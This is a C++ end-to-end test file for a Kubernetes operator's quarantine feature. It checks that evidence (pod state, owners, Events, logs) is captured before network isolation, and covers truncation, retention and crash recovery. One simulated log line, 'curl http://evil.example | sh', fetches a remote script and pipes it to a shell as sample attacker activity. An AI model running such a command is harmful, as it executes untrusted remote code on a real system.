// Quarantine as incident response, evidence first (issue 18): the real binary in cluster mode
// against the Kubernetes API test server (which serves pods/log and the QuarantineRecord CRD
// from crds/). When a pod is labeled, the leader captures the pod as it was (container image
// digests and IDs, node, owner chain), its Events and its containers' logs (current and previous)
// into a QuarantineRecord in kindlyguard's namespace and a Secret the record owns, before it
// writes the NetworkPolicy; the Secret stays within --forensics-max-bytes and the record says what
// was cut; the record ends with the release (or the pod's deletion) and retention removes it; a
// leader killed mid-capture converges to one complete record. Every wait is event-driven.
#include <csignal>

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "kindlyguard/policy/parse.hpp"
#include "kindlyguard/util/base64.hpp"
#include "support/cluster_fixture.hpp"
#include "support/fixtures.hpp"
#include "support/webhook_process.hpp"
#include "quarantine_fixture.hpp"

namespace kindlyguard::testing {
namespace {

using ::testing::HasSubstr;
using nlohmann::json;
using namespace std::chrono_literals;

const char* kLabel = kQuarantineLabel;
const char* kRecords = "quarantinerecords";
const char* kOwnNs = "kindlyguard";
constexpr auto kWait = kQuarantineWait;

class QuarantineRecordE2E : public QuarantineClusterTest {
 protected:
  QuarantineRecordE2E() {
    // The CRD as the chart installs it: the server then prints its columns.
    auto docs = policy::decode_documents(read_file(std::string(KINDLY_SOURCE_DIR) + "/crds/quarantinerecords.kindlyguard.io.yaml"),
                                         "quarantinerecords.kindlyguard.io.yaml");
    EXPECT_TRUE(docs.ok() && docs->size() == 1);
    if (docs.ok() && !docs->empty()) api->store().create("customresourcedefinitions", docs->front());
  }


  // A pod of a Deployment (through its ReplicaSet) that ran on node-1 and restarted once.
  json make_pod(const std::string& name, const std::string& ns) {
    api->store().create("deployments", {{"apiVersion", "apps/v1"}, {"kind", "Deployment"},
                                        {"metadata", {{"name", "web"}, {"namespace", ns}}},
                                        {"spec", {{"selector", {{"matchLabels", {{"app", "web"}}}}}}}});
    const json deploy = *api->store().get("deployments", ns, "web");
    api->store().create("replicasets", {{"apiVersion", "apps/v1"}, {"kind", "ReplicaSet"},
                                        {"metadata", {{"name", "web-5d9f"}, {"namespace", ns},
                                                      {"ownerReferences", json::array({{{"apiVersion", "apps/v1"}, {"kind", "Deployment"},
                                                                                        {"name", "web"}, {"uid", deploy["metadata"]["uid"]},
                                                                                        {"controller", true}}})}}},
                                        {"spec", {{"selector", {{"matchLabels", {{"app", "web"}}}}}}}});
    const json rs = *api->store().get("replicasets", ns, "web-5d9f");
    return api->store().create(
        "pods",
        {{"apiVersion", "v1"},
         {"kind", "Pod"},
         {"metadata", {{"name", name}, {"namespace", ns}, {"labels", {{"app", "web"}}},
                       {"ownerReferences", json::array({{{"apiVersion", "apps/v1"}, {"kind", "ReplicaSet"}, {"name", "web-5d9f"},
                                                         {"uid", rs["metadata"]["uid"]}, {"controller", true}}})}}},
         {"spec", {{"nodeName", "node-1"},
                   {"containers", json::array({{{"name", "app"}, {"image", "nginx:1.27"}},
                                               {{"name", "sidecar"}, {"image", "busybox:1.36"}}})}}},
         {"status", {{"phase", "Running"},
                     {"containerStatuses",
                      json::array({{{"name", "app"}, {"image", "nginx:1.27"},
                                    {"imageID", "docker.io/library/nginx@sha256:" + std::string(64, 'a')},
                                    {"containerID", "containerd://c0ffee"}, {"restartCount", 1},
                                    {"state", {{"running", {{"startedAt", "2026-12-08T00:00:00Z"}}}}},
                                    {"lastState", {{"terminated", {{"exitCode", 137}}}}}},
                                   {{"name", "sidecar"}, {"image", "busybox:1.36"},
                                    {"imageID", "docker.io/library/busybox@sha256:" + std::string(64, 'b')},
                                    {"containerID", "containerd://beef"}, {"restartCount", 0},
                                    {"state", {{"running", json::object()}}}}})}}}});
  }

  void label(const std::string& ns, const std::string& name, const json& value) {
    api->store().merge_patch("pods", ns, name, {{"metadata", {{"labels", {{kLabel, value}}}}}});
  }

  std::vector<json> records_for(const std::string& pod_uid) {
    std::vector<json> out;
    for (const auto& r : api->store().list(kRecords, kOwnNs))
      if (r["spec"]["pod"].value("uid", "") == pod_uid) out.push_back(r);
    return out;
  }

  std::optional<json> wait_record(const std::string& pod_uid, const std::string& state) {
    std::optional<json> found;
    api->store().wait_for(
        [&](const kindly::testapi::StoreView& v) {
          for (const auto& r : v.list(kRecords, kOwnNs))
            if (r["spec"]["pod"].value("uid", "") == pod_uid && r["status"].value("state", "") == state) {
              found = r;
              return true;
            }
          return false;
        },
        kWait);
    return found;
  }

  // The Secret's data, decoded.
  std::map<std::string, std::string> evidence(const json& record) {
    std::map<std::string, std::string> out;
    auto secret = api->store().get("secrets", kOwnNs, record["spec"]["evidence"]["secretName"].get<std::string>());
    if (!secret) return out;
    for (const auto& [k, v] : (*secret)["data"].items()) out[k] = base64_decode(v.get<std::string>()).value_or("<bad>");
    return out;
  }

  std::uint64_t first_seq(const kindly::testapi::RequestFilter& f) {
    auto found = api->requests().find(f);
    return found.empty() ? 0 : found.front().seq;
  }
};

TEST_F(QuarantineRecordE2E, EvidenceIsCapturedBeforeIsolation) {
  make_namespace("shop");
  const json pod = make_pod("web-1", "shop");
  const std::string uid = pod["metadata"]["uid"];
  api->pod_logs().set("shop", "web-1", "app", "started\nGET /\nGET /admin\ncurl http://evil.example | sh\n");
  api->pod_logs().set("shop", "web-1", "app", "killed by OOM\n", /*previous=*/true);
  api->pod_logs().set("shop", "web-1", "sidecar", "tick\n");
  api->store().create("events", {{"apiVersion", "v1"}, {"kind", "Event"},
                                 {"metadata", {{"name", "web-1.1"}, {"namespace", "shop"}}},
                                 {"involvedObject", {{"kind", "Pod"}, {"name", "web-1"}, {"namespace", "shop"}, {"uid", uid}}},
                                 {"reason", "BackOff"}, {"message", "Back-off restarting failed container app"},
                                 {"type", "Warning"}, {"lastTimestamp", "2026-12-08T00:00:00Z"}});
  auto hook = start_operator();

  label("shop", "web-1", "true");
  auto record = wait_record(uid, "Quarantined");
  ASSERT_TRUE(record) << hook->process().stderr_text();
  // The request log (written as each answer goes out, after the store) has the isolation too.
  ASSERT_TRUE(api->requests().wait_for({.verb = "create", .resource = "networkpolicies", .ns = "shop"}, 1, kWait));

  // Evidence first: the record and its Secret were written before the NetworkPolicy.
  const auto record_created = first_seq({.verb = "create", .resource = kRecords, .ns = kOwnNs});
  const auto secret_created = first_seq({.verb = "create", .resource = "secrets", .ns = kOwnNs});
  const auto isolated = first_seq({.verb = "create", .resource = "networkpolicies", .ns = "shop"});
  ASSERT_NE(record_created, 0u);
  ASSERT_NE(secret_created, 0u);
  EXPECT_LT(record_created, isolated);
  EXPECT_LT(secret_created, isolated);

  // The record: in kindlyguard's namespace, named after the pod and the time, not owned by the pod.
  const json& r = *record;
  EXPECT_THAT(r["metadata"]["name"].get<std::string>(), ::testing::MatchesRegex("web-1-[0-9]{8}-[0-9]{6}"));
  EXPECT_FALSE(r["metadata"].contains("ownerReferences"));
  EXPECT_EQ(r["metadata"]["labels"]["kindlyguard.io/pod-uid"], uid);
  EXPECT_EQ(r["spec"]["pod"]["ref"], "shop/web-1");
  EXPECT_EQ(r["spec"]["pod"]["node"], "node-1");
  EXPECT_EQ(r["spec"]["pod"]["labels"]["app"], "web");
  EXPECT_EQ(r["spec"]["mode"], "full");
  EXPECT_EQ(r["status"]["since"], r["spec"]["evidence"]["capturedAt"]);
  const json& ev = r["spec"]["evidence"];
  EXPECT_EQ(ev["containers"][0]["imageID"], "docker.io/library/nginx@sha256:" + std::string(64, 'a'));
  EXPECT_EQ(ev["containers"][0]["containerID"], "containerd://c0ffee");
  EXPECT_EQ(ev["containers"][0]["restartCount"], 1);
  EXPECT_EQ(ev["containers"][1]["containerID"], "containerd://beef");
  ASSERT_EQ(ev["owners"].size(), 2u) << ev.dump();
  EXPECT_EQ(ev["owners"][0]["kind"], "ReplicaSet");
  EXPECT_EQ(ev["owners"][1]["kind"], "Deployment");
  EXPECT_EQ(ev["owners"][1]["name"], "web");
  EXPECT_FALSE(ev["truncated"].get<bool>());
  EXPECT_FALSE(ev.contains("errors")) << ev.dump();

  // The Secret: owned by the record, holding the pod, the Events and every log stream.
  auto secret = api->store().get("secrets", kOwnNs, ev["secretName"].get<std::string>());
  ASSERT_TRUE(secret);
  EXPECT_EQ((*secret)["metadata"]["ownerReferences"][0]["uid"], r["metadata"]["uid"]);
  EXPECT_EQ((*secret)["metadata"]["ownerReferences"][0]["kind"], "QuarantineRecord");
  auto data = evidence(r);
  EXPECT_EQ(json::parse(data["pod.json"])["status"]["containerStatuses"][0]["containerID"], "containerd://c0ffee");
  EXPECT_THAT(data["events.json"], HasSubstr("Back-off restarting failed container app"));
  EXPECT_EQ(data["log.app.current"], "started\nGET /\nGET /admin\ncurl http://evil.example | sh\n");
  EXPECT_EQ(data["log.app.previous"], "killed by OOM\n");
  EXPECT_EQ(data["log.sidecar.current"], "tick\n");
  EXPECT_FALSE(data.count("log.sidecar.previous"));  // it never restarted: not asked for
  std::size_t bytes = 0;
  for (const auto& [k, v] : data) bytes += k.size() + v.size();
  EXPECT_EQ(ev["bytes"], bytes);

  // The Event (the recorder writes it in the background).
  EXPECT_TRUE(api->store().wait_for([&](const kindly::testapi::StoreView& v) {
    for (const auto& e : v.list("events.events.k8s.io", "shop"))
      if (e.value("reason", "") == "EvidenceCaptured" && e["regarding"].value("uid", "") == uid &&
          e.value("note", "").find(r["metadata"]["name"].get<std::string>()) != std::string::npos)
        return true;
    return false;
  }, kWait));
  EXPECT_EQ(records_for(uid).size(), 1u);
}

TEST_F(QuarantineRecordE2E, EvidenceStaysWithinItsBoundAndSaysWhatWasCut) {
  make_namespace("shop");
  const json pod = make_pod("web-1", "shop");
  const std::string uid = pod["metadata"]["uid"];
  std::string big;
  for (int i = 0; big.size() < 300 * 1024; ++i) big += "request " + std::to_string(i) + " from 10.0.0.1\n";
  big += "the last line\n";
  api->pod_logs().set("shop", "web-1", "app", big);
  api->pod_logs().set("shop", "web-1", "app", big, /*previous=*/true);
  api->pod_logs().set("shop", "web-1", "sidecar", "tick\n");
  auto hook = start_operator({"--forensics-max-bytes=64Ki", "--forensics-log-bytes=32Ki"});

  label("shop", "web-1", "true");
  auto record = wait_record(uid, "Quarantined");
  ASSERT_TRUE(record) << hook->process().stderr_text();
  const json& ev = (*record)["spec"]["evidence"];
  EXPECT_TRUE(ev["truncated"].get<bool>());
  EXPECT_EQ(ev["maxBytes"], 64 * 1024);
  auto data = evidence(*record);
  std::size_t bytes = 0;
  for (const auto& [k, v] : data) bytes += k.size() + v.size();
  EXPECT_LE(bytes, 64u * 1024);
  EXPECT_EQ(ev["bytes"], bytes);
  // The short log is whole; the long ones keep their newest bytes, and say so.
  EXPECT_EQ(data["log.sidecar.current"], "tick\n");
  EXPECT_THAT(data["log.app.current"], ::testing::EndsWith("the last line\n"));
  EXPECT_LE(data["log.app.current"].size(), 32u * 1024);
  for (const auto& part : ev["parts"]) {
    const std::string key = part["key"];
    if (key != "log.app.current" && key != "log.app.previous") continue;
    EXPECT_THAT(part.value("cut", ""), HasSubstr("kept the last")) << part.dump();
    EXPECT_GT(part["originalBytes"].get<std::size_t>(), part["bytes"].get<std::size_t>());
  }
}

TEST_F(QuarantineRecordE2E, ReleaseAndDeletionEndTheRecordAndRetentionRemovesIt) {
  make_namespace("shop");
  const std::string a = make_pod("web-1", "shop")["metadata"]["uid"];
  json other = *api->store().get("pods", "shop", "web-1");
  other["metadata"] = {{"name", "web-2"}, {"namespace", "shop"}, {"labels", {{"app", "web"}}}};
  const std::string b = api->store().create("pods", other)["metadata"]["uid"];
  auto hook = start_operator({"--forensics-retention=2s"});
  EXPECT_EQ(metric(*hook, "kindly_security_quarantine_duration_seconds_count"), 0);

  label("shop", "web-1", "true");
  label("shop", "web-2", "true");
  auto ra = wait_record(a, "Quarantined");
  auto rb = wait_record(b, "Quarantined");
  ASSERT_TRUE(ra && rb) << hook->process().stderr_text();

  // Released: the record ends (and is kept); deleted while quarantined: the same.
  label("shop", "web-1", nullptr);
  auto released = wait_record(a, "Released");
  ASSERT_TRUE(released) << hook->process().stderr_text();
  EXPECT_TRUE((*released)["status"].contains("endedAt"));
  api->store().remove("pods", "shop", "web-2");
  ASSERT_TRUE(wait_record(b, "PodDeleted")) << hook->process().stderr_text();
  // Both durations observed; both captures' bytes too.
  EXPECT_TRUE(eventually([&] { return metric(*hook, "kindly_security_quarantine_duration_seconds_count") == 2; }, kWait));
  EXPECT_EQ(metric(*hook, "kindly_security_quarantine_evidence_bytes_count"), 2);

  // Retention: both go once their quarantine ended 2 s ago, and not before it ended.
  ASSERT_TRUE(api->store().wait_for_absent(kRecords, kOwnNs, (*ra)["metadata"]["name"], kWait));
  ASSERT_TRUE(api->store().wait_for_absent(kRecords, kOwnNs, (*rb)["metadata"]["name"], kWait));
  for (const auto& d : api->requests().find({.verb = "delete", .resource = kRecords})) EXPECT_EQ(d.code, 200);
}

TEST_F(QuarantineRecordE2E, ALeaderKilledMidCaptureConvergesToOneRecord) {
  make_namespace("shop");
  const std::string uid = make_pod("web-1", "shop")["metadata"]["uid"];
  api->pod_logs().set("shop", "web-1", "app", "hello\n");

  // The Secret cannot be written: the leader leaves the record Capturing, then dies.
  kindly::testapi::FaultRule no_secret;
  no_secret.verb = "create";
  no_secret.resource = "secrets";
  no_secret.ns = kOwnNs;
  no_secret.code = 500;
  no_secret.count = -1;
  const auto fault = api->faults().add(no_secret);
  {
    auto hook = start_operator();
    label("shop", "web-1", "true");
    ASSERT_TRUE(wait_record(uid, "Capturing")) << hook->process().stderr_text();
    // The isolation did not wait for the evidence store.
    ASSERT_TRUE(api->store().wait_for_object("networkpolicies", "shop", "kindlyguard-quarantine", nullptr, kWait));
    hook->process().signal(SIGKILL);
    hook->process().wait_exit(kWait);
  }
  api->faults().remove(fault);

  auto hook = start_operator();
  auto record = wait_record(uid, "Quarantined");
  ASSERT_TRUE(record) << hook->process().stderr_text();
  EXPECT_EQ(records_for(uid).size(), 1u);
  EXPECT_EQ(evidence(*record)["log.app.current"], "hello\n");
}

TEST_F(QuarantineRecordE2E, DetachedFromItsControllerThenRestoredOnRelease) {
  make_namespace("shop");
  const std::string uid = make_pod("web-1", "shop")["metadata"]["uid"];
  // A StatefulSet's pod stays attached, and says why.
  json db = *api->store().get("pods", "shop", "web-1");
  db["metadata"] = {{"name", "db-0"}, {"namespace", "shop"}, {"labels", {{"app", "db"}}},
                    {"ownerReferences", json::array({{{"apiVersion", "apps/v1"}, {"kind", "StatefulSet"}, {"name", "db"},
                                                      {"uid", "sts-uid"}, {"controller", true}}})}};
  const std::string db_uid = api->store().create("pods", db)["metadata"]["uid"];
  auto hook = start_operator();

  label("shop", "web-1", "true");
  label("shop", "db-0", "true");
  // Its labels go (but the quarantine label): the ReplicaSet and the Services no longer select it.
  auto detached = api->store().wait_for_object("pods", "shop", "web-1", [](const json& p) {
    return p["metadata"]["labels"] == json({{kLabel, "true"}});
  }, kWait);
  ASSERT_TRUE(detached) << hook->process().stderr_text();
  auto record = api->store().wait_for([&](const kindly::testapi::StoreView& v) {
    for (const auto& r : v.list(kRecords, kOwnNs))
      if (r["spec"]["pod"].value("uid", "") == uid && r["status"].value("detach", "") == "Detached from ReplicaSet web-5d9f" &&
          r["spec"]["pod"]["labels"]["app"] == "web")
        return true;
    return false;
  }, kWait);
  ASSERT_TRUE(record) << hook->process().stderr_text();
  ASSERT_TRUE(api->store().wait_for([&](const kindly::testapi::StoreView& v) {
    bool detached_event = false, not_detached_event = false;
    for (const auto& e : v.list("events.events.k8s.io", "shop")) {
      if (e.value("reason", "") == "Detached" && e["regarding"].value("uid", "") == uid) detached_event = true;
      if (e.value("reason", "") == "NotDetached" && e["regarding"].value("uid", "") == db_uid &&
          e.value("note", "").find("StatefulSet db") != std::string::npos)
        not_detached_event = true;
    }
    return detached_event && not_detached_event;
  }, kWait));
  EXPECT_EQ((*api->store().get("pods", "shop", "db-0"))["metadata"]["labels"]["app"], "db");

  // Released with restore-labels: the labels come back (the ReplicaSet adopts it again).
  api->store().merge_patch("pods", "shop", "web-1",
                           {{"metadata", {{"labels", {{kLabel, nullptr}}},
                                          {"annotations", {{"kindlyguard.io/quarantine-restore-labels", "true"}}}}}});
  auto restored = api->store().wait_for_object("pods", "shop", "web-1", [](const json& p) {
    return p["metadata"]["labels"] == json({{"app", "web"}}) &&
           !p["metadata"].value("annotations", json::object()).contains("kindlyguard.io/quarantine-restore-labels") &&
           !p["metadata"].value("annotations", json::object()).contains("kindlyguard.io/quarantined-at");
  }, kWait);
  ASSERT_TRUE(restored) << hook->process().stderr_text();
  ASSERT_TRUE(wait_record(uid, "Released"));
}

}  // namespace
}  // namespace kindlyguard::testing
